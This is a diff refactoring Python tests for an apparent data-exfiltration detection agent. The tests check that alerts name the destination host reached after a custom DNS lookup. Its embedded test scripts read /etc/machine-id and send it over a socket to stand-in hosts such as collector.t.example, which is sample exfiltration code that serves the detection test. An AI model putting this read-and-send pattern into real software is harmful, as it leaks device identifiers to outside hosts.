@@ -51,25 +51,32 @@ resolve(sys.argv[1], label + ".t.example")
     expect_eq("base32", a["evidence"]["encoding"], "evidence.encoding")
 
 
-def test_destination_host_comes_from_the_answer(host):
-    code = QUERY + """
+# After the resolver (code defining `resolve`), the client sends the machine-id to what `name`
+# resolved to.
+SEND_TO_RESOLVED = """
 mid = open("/etc/machine-id").read().strip()
-addr = resolve(sys.argv[1], "collector.t.example")
-s = socket.create_connection((addr, 9000), timeout=5)
+s = socket.create_connection((resolve(sys.argv[1], sys.argv[2]), 9000), timeout=5)
 s.sendall(mid.encode())
 """
+
+
+def alert_for_send_to_resolved(host, resolver, name):
     with Agent(policy_text=POLICY_MACHINE_ID) as agent:
-        pid, _ = run_py(code, host.addr)
-        a = agent.wait_alert(process__pid=pid, destination__port=9000)
+        pid, _ = run_py(resolver + SEND_TO_RESOLVED, host.addr, name)
+        return agent.wait_alert(process__pid=pid, destination__port=9000)
+
+
+def test_destination_host_comes_from_the_answer(host):
+    a = alert_for_send_to_resolved(host, QUERY, "collector.t.example")
     expect_eq("collector.t.example", a["destination"]["host"], "destination.host")
     expect_eq("socket", a["evidence"]["channel"], "evidence.channel")
 
 
 def test_destination_host_comes_from_an_answer_read_with_read(host):
     """The answer read with read(2), not recv: any receive call names the host."""
-    code = QUERY + """
+    resolver = QUERY + """
 import os, select
-def resolve_with_read(server, name):
+def resolve(server, name):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.connect((server, 53))
     s.send(query(name))
@@ -77,13 +84,6 @@ def resolve_with_read(server, name):
         sys.exit("no answer")
     answer = os.read(s.fileno(), 512)
     return socket.inet_ntoa(answer[-4:])
-
-mid = open("/etc/machine-id").read().strip()
-addr = resolve_with_read(sys.argv[1], "reader.t.example")
-s = socket.create_connection((addr, 9000), timeout=5)
-s.sendall(mid.encode())
 """
-    with Agent(policy_text=POLICY_MACHINE_ID) as agent:
-        pid, _ = run_py(code, host.addr)
-        a = agent.wait_alert(process__pid=pid, destination__port=9000)
+    a = alert_for_send_to_resolved(host, resolver, "reader.t.example")
     expect_eq("reader.t.example", a["destination"]["host"], "destination.host")
